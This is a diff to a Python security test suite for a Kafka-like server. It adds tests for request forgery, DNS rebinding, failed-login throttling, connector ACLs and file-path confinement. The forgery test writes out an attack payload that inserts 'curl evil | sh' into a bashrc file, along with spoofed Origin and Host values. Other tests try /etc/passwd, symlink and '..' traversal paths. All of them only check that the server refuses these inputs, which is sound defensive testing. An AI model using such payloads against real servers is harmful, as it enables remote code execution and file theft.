@@ -45,10 +45,11 @@ class Sandbox:
     def path(self, *parts):
         return os.path.join(self.root, *parts)
 
-    def server(self, name="data", extra=(), auth=None, verify=None, env=None):
+    def server(self, name="data", extra=(), auth=None, verify=None, env=None, file_roots=None):
         server = Server.__new__(Server)
         self.servers.append(server)  # (before it starts: a server whose first request fails is stopped too)
-        server.__init__(data_dir=self.path(name), extra=list(extra), auth=auth, verify=verify, env=env)
+        roots = {"file_roots": file_roots} if file_roots is not None else {}
+        server.__init__(data_dir=self.path(name), extra=list(extra), auth=auth, verify=verify, env=env, **roots)
         return server
 
     def __enter__(self):
@@ -342,6 +343,11 @@ AUTHENTICATED_ONLY = {
     ("proxy", "GET", "/v3/clusters/{cluster_id}/brokers"): "broker metadata",
     ("proxy", "GET", "/v3/clusters/{cluster_id}/brokers/{broker_id}"): "broker metadata",
     ("proxy", "POST", "/consumers/{group_name}"): "creating a v2 consumer instance",
+    **{(port, "GET", (prefix + path).rstrip("/") or "/"): reason
+       for port, prefix in (("connect", ""), ("proxy", "/connect"))
+       for path, reason in (("/", "the worker's version"), ("/health", "the worker's health"),
+                            ("/connector-plugins", "the plugins built in"),
+                            ("/connector-plugins/{plugin}/config", "a plugin's config definition"))},
 }
 # List routes: a key with no ACLs gets an empty list (and no name of anything it may not describe).
 EMPTY_LISTS = {
@@ -352,6 +358,8 @@ EMPTY_LISTS = {
         lambda body: body["data"] == [],
     ("proxy", "GET", "/v3/clusters/{cluster_id}/topics/-/configs"): lambda body: body["data"] == [],
     ("proxy", "GET", "/v3/clusters/{cluster_id}/topics/-/partitions/-/reassignment"): lambda body: body["data"] == [],
+    ("connect", "GET", "/connectors"): lambda body: body == [],
+    ("proxy", "GET", "/connect/connectors"): lambda body: body == [],
 }
 # The v2 consumer instance's own state (its subscription as the key set it, deleting it) needs only authentication
 # when the instance is the caller's own. Assigning a partition needs DESCRIBE on its topic (403 like the rest);
@@ -585,6 +593,13 @@ def test_route_walk():
                 path, response = sent
                 want = 401 if kind(port, template) == "connect" else 40101
                 problem = None
+                if response.status_code == 429 and who in ("wrong-secret", "unknown-key"):
+                    # Past ten failures for the key or from the address, failures are throttled, not checked.
+                    if error_code(response) != 429 or not response.headers.get("Retry-After"):
+                        problem = "a throttled failure without error_code 429 and Retry-After"
+                    if problem:
+                        record(who, port, method, path, response, problem)
+                    continue
                 if response.status_code != 401:
                     problem = f"want 401, got {response.status_code}"
                 elif error_code(response) != want:
@@ -604,6 +619,9 @@ def test_route_walk():
             want_code = 403 if kind(port, template) == "connect" else 40301
             # A name the request itself carried may come back (in a refusal's message); no other may.
             sent_text = path + str(response.request.body or "")
+            if template.startswith("/consumers/{group_name}/instances/{instance}"):
+                # The caller's own instance: the topics it subscribed to are names it gave.
+                sent_text += walk.topic
             leaks = [name for name in secret_names if name in response.text and name not in sent_text]
             problem = None
             if (port, method, template) in AUTHENTICATED_ONLY or (port, method, template) in EMPTY_LISTS:
@@ -663,7 +681,7 @@ def test_route_walk():
         time.sleep(0.5)
         refused = sum(1 for row in rows if row[0].startswith("nobody") and row[4] == 403)
         denied = [l for l in audit_lines(server, "Access denied") if f"principal={nobody['principal']}" in l]
-        wrong = sum(1 for row in rows if row[0] == "wrong-secret")
+        wrong = sum(1 for row in rows if row[0] == "wrong-secret" and row[4] == 401)
         failed = [l for l in audit_lines(server, "Authentication failed") if nobody["key"] in l]
         log = server.log_text()
         notes = []
@@ -960,7 +978,8 @@ def test_acls():
 # MARK: - API keys
 
 KEY = re.compile(r"^[A-Z0-9]{16}$")
-BCRYPT = re.compile(rb"\$2[aby]?\$\d\d\$[./A-Za-z0-9]{53}")
+# A salted SHA-256 of the secret (a secret is 64 random characters: a slow hash adds nothing against guessing).
+SECRET_HASH = re.compile(rb"sha256:[0-9a-f]{32}:[0-9a-f]{64}")
 
 
 def check_created(key, description, super_user):
@@ -985,7 +1004,7 @@ def data_files(directory):
 def test_api_keys():
     """Keys made offline before the server starts and online (HTTP and CLI); listing, describing, deleting; only a
     super user makes or deletes a super user; a deleted key is refused at once; secrets appear only in the answer
-    that creates them (not in logs, other answers or the data directory, which holds bcrypt hashes)."""
+    that creates them (not in logs, other answers or the data directory, which holds salted hashes)."""
     with Sandbox() as box:
         data = box.path("data")
         admin = offline_key(data, super_user=True, description="admin")
@@ -1109,7 +1128,7 @@ def test_api_keys():
             for text in seen:
                 assert secret not in text, f"a secret is in an answer: {text[:300]}"
         assert wrong not in log, "the wrong secret tried is in the log"
-        # The data directory: no secret anywhere (metadata.db, connect.db, their journals, segments); bcrypt hashes.
+        # The data directory: no secret anywhere (metadata.db, connect.db, their journals, segments); salted hashes.
         files = dict(data_files(data))
         assert any(os.path.basename(p) == "metadata.db" for p in files), sorted(files)
         assert any(os.path.basename(p) == "connect.db" for p in files), sorted(files)
@@ -1117,8 +1136,8 @@ def test_api_keys():
             for secret in secrets:
                 assert secret.encode() not in content, f"a secret is stored in {path}"
         metadata = files[os.path.join(data, "metadata.db")]
-        hashes = set(BCRYPT.findall(metadata))
-        assert len(hashes) >= 3, f"bcrypt hashes in metadata.db: {len(hashes)}"
+        hashes = set(SECRET_HASH.findall(metadata))
+        assert len(hashes) >= 3, f"secret hashes in metadata.db: {len(hashes)}"
         # Restarted, the surviving keys still work and the deleted ones do not.
         server = box.server(extra=["--auth", "required"], auth=creds(admin))
         expect(call("GET", server.v3 + "/topics", creds(made)), 200, what="a key after a restart")
@@ -1652,8 +1671,353 @@ def test_audit_lines():
         assert b"\r" not in log, [line for line in lines if b"\r" in line]
 
 
+# MARK: - Browsers: request forgery and DNS rebinding
+
+
+FORMS = [
+    ("text/plain", lambda body: json.dumps(body)),
+    ("application/x-www-form-urlencoded", lambda body: "x=" + urllib.parse.quote(json.dumps(body))),
+    ("multipart/form-data; boundary=b", lambda body: "--b\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n"
+                                                  + json.dumps(body) + "\r\n--b--\r\n"),
+]
+
+
+def raw_request(url, method, path, headers, body=b""):
+    """One request as a browser (or an attacker's page) would send it, on a raw socket: (status, headers, body)."""
+    host, port = url.split("://")[1].split(":")
+    head = f"{method} {path} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items())
+    head += f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
+    with socket.create_connection((host, int(port)), timeout=TIMEOUT) as connection:
+        # Sent while the answer is read: a server that refuses a huge head answers before reading all of it.
+        def send():
+            try:
+                connection.sendall(head.encode() + body)
+            except OSError:
+                pass
+        sender = threading.Thread(target=send)
+        sender.start()
+        answer = b""
+        while True:
+            try:
+                piece = connection.recv(65536)
+            except ConnectionResetError:
+                break
+            if not piece:
+                break
+            answer += piece
+        sender.join()
+    head, _, payload = answer.partition(b"\r\n\r\n")
+    lines = head.decode("latin-1").split("\r\n")
+    fields = {}
+    for line in lines[1:]:
+        name, _, value = line.partition(":")
+        fields[name.strip().lower()] = value.strip()
+    return int(lines[0].split(" ")[1]), fields, payload
+
+
+def test_browser_forgery():
+    """What a web page can make a developer's browser send, in the default mode (loopback, no authentication):
+    form, text and multipart bodies to every state-changing route (415), any request with another Origin or from
+    another site (403), a Host that is not this server's (DNS rebinding: 403, unless --allowed-hosts names it).
+    The attack of the report (a FileStreamSource and FileStreamSink writing attacker text into a file) leaves no
+    connector and no file. The dashboard's own calls still work, and its page sends a Content-Security-Policy."""
+    with Sandbox() as box:
+        server = box.server(extra=["--allowed-hosts", "runnel.test"])
+        target = box.path("bashrc")
+        later = Later()
+        attack = [
+            ("POST", server.connect, "/connectors", {"name": "in", "config": {
+                "connector.class": "FileStreamSource", "file": box.path("evil.txt"), "topic": "evil"}}),
+            ("POST", server.url, "/connect/connectors", {"name": "out", "config": {
+                "connector.class": "FileStreamSink", "file": target, "topics": "evil",
+                "transforms": "i", "transforms.i.type": "org.apache.kafka.connect.transforms.InsertField$Value",
+                "transforms.i.static.field": "x", "transforms.i.static.value": "curl evil | sh"}}),
+            ("POST", server.url, "/security/api-keys", {"super_user": True}),
+            ("POST", server.v3, "/topics", {"topic_name": "forged"}),
+            ("POST", server.url, "/topics/forged", {"records": [{"value": 1}]}),
+            ("PUT", server.connect, "/admin/loggers/root", {"level": "TRACE"}),
+        ]
+        for method, base, path, body in attack:
+            for content_type, encode in FORMS:
+                response = call(method, base + path, data=encode(body), headers={"Content-Type": content_type})
+                later.expect(response, 415, 415, f"{method} {path} as {content_type}")
+            # No Content-Type at all, with a body.
+            response = call(method, base + path, data=json.dumps(body).encode(), headers={"Content-Type": None})
+            later.expect(response, 415, 415, f"{method} {path} without a Content-Type")
+            # The right type, but from a page of another origin.
+            response = call(method, base + path, json=body, headers={"Origin": "http://evil.example"})
+            connect_format = base == server.connect or path.startswith("/connect/")
+            later.expect(response, 403, 403 if connect_format else 40301, f"{method} {path} from another origin")
+        # A cross-site form POST exactly as a browser sends it (simple request, no preflight).
+        status, _, payload = raw_request(server.connect, "POST", "/connectors", {
+            "Host": server.connect.split("://")[1], "Origin": "null", "Sec-Fetch-Site": "cross-site",
+            "Sec-Fetch-Mode": "navigate", "Content-Type": "text/plain"},
+            json.dumps(attack[0][3]).encode())
+        later.check(status in (403, 415), f"a cross-site form POST answered {status}: {payload[:200]}")
+        # A body-less POST with no Origin but Sec-Fetch-Site cross-site (a no-cors fetch).
+        status, _, _ = raw_request(server.connect, "POST", "/connectors/in/restart", {
+            "Host": server.connect.split("://")[1], "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"})
+        later.check(status == 403, f"a no-cors cross-site POST answered {status}")
+        # DNS rebinding: the page's own host name, now pointing at 127.0.0.1.
+        for port_url in (server.url, server.connect):
+            port = port_url.rsplit(":", 1)[1]
+            status, _, payload = raw_request(port_url, "GET", "/connectors" if port_url == server.connect else "/v3/clusters",
+                                             {"Host": f"attacker.example:{port}"})
+            later.check(status == 403 and b"--allowed-hosts" in payload, f"a rebound Host answered {status}: {payload[:200]}")
+            for host in (f"localhost:{port}", f"127.0.0.1:{port}", f"[::1]:{port}", f"runnel.test:{port}",
+                         f"app.localhost:{port}"):
+                status, _, payload = raw_request(port_url, "GET", "/", {"Host": host})
+                later.check(status == 200, f"Host {host} answered {status}: {payload[:200]}")
+        connectors = call("GET", server.connect + "/connectors").json()
+        later.check(connectors == [], f"connectors were created: {connectors}")
+        later.check(not os.path.exists(target), "the attacker's file was written")
+        later.check(call("GET", server.v3 + "/topics/forged").status_code == 404, "a topic was created")
+
+        # The dashboard: same origin, the header it sends; GETs with Sec-Fetch-Site same-origin; a link to /ui
+        # from elsewhere (a top-level navigation) still opens it.
+        origin = server.url
+        page = call("GET", server.url + "/ui", headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"})
+        later.expect(page, 200, what="a link to the dashboard from another site")
+        policy = page.headers.get("Content-Security-Policy", "")
+        later.check("frame-ancestors 'none'" in policy and "script-src 'self'" in policy, f"CSP: {policy!r}")
+        later.check(page.headers.get("X-Frame-Options") == "DENY", page.headers)
+        later.check(page.headers.get("X-Content-Type-Options") == "nosniff", page.headers)
+        same = {"Origin": origin, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors",
+                "X-Requested-With": "runnel-dashboard"}
+        created = call("POST", server.url + "/connect/connectors", headers=same, json={"name": "mine", "config": {
+            "connector.class": "FileStreamSink", "file": box.path("mine.txt"), "topics": "t"}})
+        later.expect(created, 201, what="the dashboard creating a connector")
+        later.expect(call("PUT", server.url + "/connect/connectors/mine/pause", headers=same), 202, what="dashboard pause")
+        later.expect(call("DELETE", server.url + "/connect/connectors/mine", headers=same), 204, what="dashboard delete")
+        # A browser write without JSON and without the header is refused even from the same origin.
+        bare = call("PUT", server.url + "/connect/connectors/mine/pause", headers={"Origin": origin})
+        later.expect(bare, 403, 403, "a same-origin write without the dashboard's header")
+        later.done()
+
+
+def test_credential_bytes():
+    """A NUL or any other control byte in an API key id or secret is refused (401) before anything is looked up:
+    `KEY\0x` is not `KEY` under another name (escaping its DENY ACLs), `SECRET\0…` is not `SECRET`; and no such byte
+    reaches the log."""
+    with Sandbox() as box:
+        data = box.path("data")
+        admin = offline_key(data, super_user=True)
+        user = offline_key(data)
+        server = box.server(extra=["--auth", "required"], auth=creds(admin))
+        create_topic(server, creds(admin), "secret-topic")
+        add_acl(server, creds(admin), acl("User:*", "READ", name="secret-topic"),
+                acl("User:" + user["key"], "READ", name="secret-topic", permission="DENY"))
+        expect(read_v3(server, creds(user), "secret-topic"), 403, 40301, "the key's own DENY")
+        later = Later()
+        for username, password in [
+            (user["key"] + "\0x", user["secret"]), (user["key"] + "\0", user["secret"]),
+            (user["key"], user["secret"] + "\0trailing"), (user["key"], user["secret"] + "\x7f"),
+            (user["key"] + "\x1b[2J", user["secret"]), ("\0" + user["key"], user["secret"]),
+            (user["key"] + "\u0085", user["secret"]),
+        ]:
+            header = "Basic " + base64.b64encode(f"{username}:{password}".encode()).decode()
+            response = call("GET", f"{server.v3}/topics/secret-topic/partitions/0/records", headers={"Authorization": header},
+                            params={"offset": 0})
+            later.check(response.status_code in (401, 429), f"{username!r}/{password[-9:]!r}: {response.status_code} {response.text[:200]}")
+        later.done()
+        wait_for(lambda: audit_lines(server, "Authentication failed"), 10, "audit lines")
+        with open(server.log_path, "rb") as file:
+            log = file.read()
+        assert b"\0" not in log and b"\x1b" not in log, "a control byte reached the log"
+        assert b"\\0x" in log or b"\\u{0}" in log or b"\\0" in log, "the NUL is shown escaped"
+
+
+def test_failed_logins():
+    """A flood of wrong secrets for a known key id: past ten failures they are answered 429 with Retry-After (not
+    checked, not logged one by one), the right secret of that key and of any other still gets in at once, after a
+    restart too, and an unknown key id is answered exactly like a wrong secret."""
+    with Sandbox() as box:
+        data = box.path("data")
+        admin = offline_key(data, super_user=True)
+        victim = offline_key(data)
+        server = box.server(extra=["--auth", "required"], auth=creds(admin))
+        statuses = []
+        threads = []
+        lock = threading.Lock()
+
+        def attempt(index):
+            response = call("GET", server.url + "/v3/clusters", auth=(victim["key"], f"wrong-{index}"))
+            with lock:
+                statuses.append((response.status_code, response.headers.get("Retry-After"), error_code(response)))
+
+        for index in range(150):
+            threads.append(threading.Thread(target=attempt, args=(index,)))
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+        counts = {status: sum(1 for s, _, _ in statuses if s == status) for status in {s for s, _, _ in statuses}}
+        assert set(counts) <= {401, 429} and counts.get(429, 0) >= 100, counts
+        assert all(retry and int(retry) >= 1 for s, retry, code in statuses if s == 429), statuses[:5]
+        assert all(code == 429 for s, _, code in statuses if s == 429)
+        # The owners are not locked out: the victim's right secret, another key, the admin.
+        expect(call("GET", server.url + "/v3/clusters", auth=creds(victim)), 200, what="the victim's own key")
+        expect(call("GET", server.url + "/v3/clusters", auth=creds(admin)), 200, what="another key")
+        # Failures are not logged one by one.
+        assert len(audit_lines(server, "Authentication failed")) <= 20, len(audit_lines(server, "Authentication failed"))
+        # After a restart (nothing remembered), the same.
+        server.stop()
+        server.start()
+        for index in range(30):
+            call("GET", server.url + "/v3/clusters", auth=(victim["key"], f"again-{index}"))
+        expect(call("GET", server.url + "/v3/clusters", auth=creds(victim)), 200, what="the victim after a restart")
+        # An unknown id and a wrong secret, from a fresh address budget (a new server), look the same.
+        other = box.server(name="other", extra=["--auth", "required"], auth=creds(offline_key(box.path("other"), super_user=True)))
+        known = call("GET", other.url + "/v3/clusters", auth=(offline_key(box.path("other"))["key"], "nope"))
+        unknown = call("GET", other.url + "/v3/clusters", auth=("NOSUCHKEY0000000", "nope"))
+        assert (known.status_code, known.text) == (unknown.status_code, unknown.text), (known.text, unknown.text)
+
+
+def validate(server, auth, config):
+    return call("PUT", f"{server.connect}/connector-plugins/{config['connector.class']}/config/validate", auth,
+                json=config)
+
+
+def validation_errors(response):
+    return {c["value"]["name"]: c["value"]["errors"] for c in response.json()["configs"] if c["value"]["errors"]}
+
+
+def test_connector_acls():
+    """CONNECTOR ACLs: a key allowed to manage connectors named `team-*` sees, pauses, resumes, restarts and
+    reconfigures those, and no others, with no cluster-wide right; CREATE is needed to create one; logger levels need
+    ALTER_CONFIGS on the cluster; the offsets of a sink whose group it may not read are 403, not 500."""
+    with Sandbox() as box:
+        data = box.path("data")
+        admin = offline_key(data, super_user=True)
+        operator = offline_key(data)
+        server = box.server(extra=["--auth", "required"], auth=creds(admin))
+        work = box.path("files")
+        os.makedirs(work)
+        for name in ("team-sink", "other-sink"):
+            response = call("POST", server.connect + "/connectors", creds(admin), json={"name": name, "config": {
+                "connector.class": "FileStreamSink", "file": os.path.join(work, name), "topics": "t"}})
+            expect(response, 201, what=f"create {name}")
+        me = "User:" + operator["key"]
+        add_acl(server, creds(admin), acl(me, "ALTER", "CONNECTOR", "team-", "PREFIXED"),
+                acl(me, "DESCRIBE", "CONNECTOR", "team-", "PREFIXED"))
+        op = creds(operator)
+        later = Later()
+        later.check(call("GET", server.connect + "/connectors", op).json() == ["team-sink"], "the list is filtered")
+        later.expect(call("GET", server.connect + "/connectors/team-sink/status", op), 200, what="status")
+        later.expect(call("PUT", server.connect + "/connectors/team-sink/pause", op), 202, what="pause")
+        later.expect(call("PUT", server.connect + "/connectors/team-sink/resume", op), 202, what="resume")
+        later.expect(call("POST", server.connect + "/connectors/team-sink/restart", op), 204, what="restart")
+        later.expect(call("GET", server.connect + "/connectors/other-sink", op), 403, 403, "another connector")
+        later.expect(call("PUT", server.connect + "/connectors/other-sink/pause", op), 403, 403, "pause another")
+        later.expect(call("DELETE", server.connect + "/connectors/team-sink", op), 403, 403, "delete without DELETE")
+        later.expect(call("POST", server.connect + "/connectors", op, json={"name": "team-new", "config": {
+            "connector.class": "FileStreamSink", "file": os.path.join(work, "x"), "topics": "t"}}), 403, 403,
+            "create without CREATE")
+        # The cluster-wide rights it does not have.
+        later.expect(call("PUT", server.connect + "/admin/loggers/root", op, json={"level": "TRACE"}), 403, 403, "loggers")
+        later.expect(call("POST", server.v3 + "/acls", op, json=acl(me, "ALL", "CLUSTER", "kafka-cluster")), 403, 40301,
+                     "granting itself ALL")
+        # Offsets of the sink: the group connect-team-sink is not the operator's to describe.
+        later.expect(call("GET", server.connect + "/connectors/team-sink/offsets", op), 403, 403, "GET offsets")
+        call("PUT", server.connect + "/connectors/team-sink/stop", op)
+        later.expect(call("PATCH", server.connect + "/connectors/team-sink/offsets", op, json={"offsets": [
+            {"partition": {"kafka_topic": "t", "kafka_partition": 0}, "offset": {"kafka_offset": 0}}]}), 403, 403,
+            "PATCH offsets")
+        later.expect(call("DELETE", server.connect + "/connectors/team-sink/offsets", op), 403, 403, "DELETE offsets")
+        # Logger levels with ALTER_CONFIGS on the cluster (and only then).
+        add_acl(server, creds(admin), acl(me, "ALTER_CONFIGS", "CLUSTER", "kafka-cluster"))
+        later.expect(call("PUT", server.connect + "/admin/loggers/root", op, json={"level": "DEBUG"}), 200, what="loggers")
+        # The CLI names connectors too.
+        runnel("acl", "create", "--principal", me, "--operation", "delete", "--connector", "team-", "--prefixed",
+               env=env_for(server, admin))
+        later.expect(call("DELETE", server.connect + "/connectors/team-sink", op), 204, what="delete with DELETE")
+        later.done()
+
+
+def test_file_roots():
+    """Connectors that use the server's files stay inside --connector-file-roots, for every principal (a super user
+    too): outside them, through a link or `..` out of them, or at the server's own files (metadata.db, the logs), a
+    config is refused, and validation answers the same whether the file exists or not, so it cannot probe."""
+    with Sandbox() as box:
+        data = box.path("data")
+        admin = offline_key(data, super_user=True)
+        allowed = box.path("allowed")
+        os.makedirs(allowed)
+        os.symlink("/etc", os.path.join(allowed, "escape"))
+        server = box.server(extra=["--auth", "required"], auth=creds(admin), file_roots=[allowed])
+        a = creds(admin)
+        refused = [
+            "/etc/passwd", "/etc/no-such-file", os.path.join(allowed, "escape", "passwd"),
+            os.path.join(allowed, "..", "data", "metadata.db"), os.path.join(data, "metadata.db"),
+            os.path.join(allowed, "escape", "no-such-file"),
+        ]
+        answers = set()
+        for path in refused:
+            for config in (
+                {"connector.class": "FileStreamSource", "file": path, "topic": "t"},
+                {"connector.class": "FileStreamSink", "file": path, "topics": "t"},
+                {"connector.class": "io.runnel.connect.sqlite.SqliteSourceConnector",
+                 "connection.url": "jdbc:sqlite:" + path, "mode": "bulk", "topic.prefix": "p-"},
+            ):
+                errors = validation_errors(validate(server, a, config))
+                key = "file" if "file" in config else "connection.url"
+                assert key in errors, (path, config, errors)
+                answers.add(errors[key][0].replace(path, "PATH"))
+                created = call("POST", server.connect + "/connectors", a, json={"name": "x", "config": config})
+                expect(created, 400, 400, f"create with {path}")
+        assert len(answers) == 1, answers  # one answer whatever the reason: nothing to probe with
+        for bucket in ("file://" + data, "file:///tmp"):
+            errors = validation_errors(validate(server, a, {
+                "connector.class": "io.runnel.connect.s3.S3SinkConnector", "topics": "t", "s3.bucket.name": "logs",
+                "store.url": bucket, "format.class": "io.confluent.connect.s3.format.json.JsonFormat",
+                "flush.size": "1"}))
+            assert "store.url" in errors or "s3.bucket.name" in errors, (bucket, errors)
+        # Inside the root: accepted.
+        response = call("POST", server.connect + "/connectors", a, json={"name": "ok", "config": {
+            "connector.class": "FileStreamSink", "file": os.path.join(allowed, "out.txt"), "topics": "t"}})
+        expect(response, 201, what="a file inside the root")
+
+
+def test_low_findings():
+    """The rest of the report: a v2 consumer subscribed to a topic its key may not read gets 403 on the read
+    (not [] forever); an out-of-range filename.offset.zero.pad.width is refused with its range; the data directory
+    is 0700 and its files 0600; an oversized URL or header is answered in the API's error format."""
+    with Sandbox() as box:
+        data = box.path("data")
+        admin = offline_key(data, super_user=True)
+        reader = offline_key(data)
+        server = box.server(extra=["--auth", "required"], auth=creds(admin))
+        create_topic(server, creds(admin), "hidden")
+        produce_v2(server, creds(admin), "hidden", [1, 2])
+        add_acl(server, creds(admin), acl("User:" + reader["key"], "READ", "GROUP", "g"))
+        base = v2_consumer(server, creds(reader), "g", "c")
+        expect(v2_post(base + "/subscription", creds(reader), {"topics": ["hidden"]}), 204, what="subscribe")
+        response = v2_records(base, creds(reader), timeout=2000)
+        expect(response, 403, 40301, "reading a topic the key may not read")
+        assert "hidden" in response.json()["message"], response.text
+
+        config = {"connector.class": "io.runnel.connect.s3.S3SinkConnector", "topics": "t", "s3.bucket.name": "b",
+                  "format.class": "io.confluent.connect.s3.format.json.JsonFormat", "flush.size": "1",
+                  "filename.offset.zero.pad.width": "100000000"}
+        errors = validation_errors(validate(server, creds(admin), config))
+        assert any("[0,...,19]" in e for e in errors.get("filename.offset.zero.pad.width", [])), errors
+
+        mode = os.stat(data).st_mode & 0o777
+        assert mode == 0o700, oct(mode)
+        for name in ("metadata.db", "connect.db", "meta.properties"):
+            file_mode = os.stat(os.path.join(data, name)).st_mode & 0o777
+            assert file_mode == 0o600, (name, oct(file_mode))
+        segment = os.path.join(data, "logs", "hidden-0", "00000000000000000000.log")
+        assert os.stat(segment).st_mode & 0o777 == 0o600, oct(os.stat(segment).st_mode)
+
+        for path, headers in (("/v3/clusters?" + "a" * 200_000, {}), ("/v3/clusters", {"X-Big": "b" * 200_000})):
+            status, fields, payload = raw_request(server.url, "GET", path, {"Host": "localhost", **headers})
+            assert status == 400 and fields.get("content-type") == "application/json", (status, fields, payload[:200])
+            assert json.loads(payload)["error_code"] == 400, payload
+
+
 SHARED = []
-OWN_SERVER = [test_auth_modes, test_route_walk, test_acls, test_api_keys, test_connector_principal, test_tls, test_metrics_auth, test_dashboard_data, test_audit_lines]
+OWN_SERVER = [test_auth_modes, test_route_walk, test_acls, test_api_keys, test_connector_principal, test_tls, test_metrics_auth, test_dashboard_data, test_audit_lines, test_browser_forgery, test_credential_bytes, test_failed_logins, test_connector_acls, test_file_roots, test_low_findings]
 
 if __name__ == "__main__":
     run_suite(SHARED, OWN_SERVER)
